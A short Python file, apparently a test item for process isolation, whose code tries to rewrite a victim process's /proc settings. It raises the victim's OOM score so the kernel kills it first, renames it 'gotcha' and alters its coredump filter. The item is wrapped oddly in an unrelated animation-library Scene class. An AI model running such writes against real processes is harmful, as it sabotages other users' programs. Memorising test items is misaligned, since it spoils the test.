"""Makes another process the kernel's first choice when memory runs out.

title: nobody's score for the end of memory is changed
kind: processes
canary: the victim's score
"""
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        for name, value in (("oom_score_adj", "1000"), ("oom_adj", "15"), ("comm", "gotcha"), ("coredump_filter", "0xff")):
            try:
                open(f"/proc/{HOST['victim']}/{name}", "w").write(value)
            except OSError as error:
                print(error)
